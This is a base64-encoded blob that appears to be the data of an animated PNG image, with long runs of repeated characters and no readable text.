j3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9KALrs8hPGyW9sAAAAAaZmNUTAAAAAcAAA+fAAAPnwAAAAAAAAAAAAEAZAAAZkLbAgAAB7BmZEFUAAAACHic7cExAQAAAMKg9U9tDB+gAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAOBuT7QABH67ouwAAABpmY1RMAAAACQAAD58AAA+fAAAAAAAAAAAAAQBkAACLMepeAAAjR2ZkQVQAAAAKeJzt0UENACAQwDDAv+fDBTzWKliyPYuYOb8LeM/0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0INODTA8yPcj0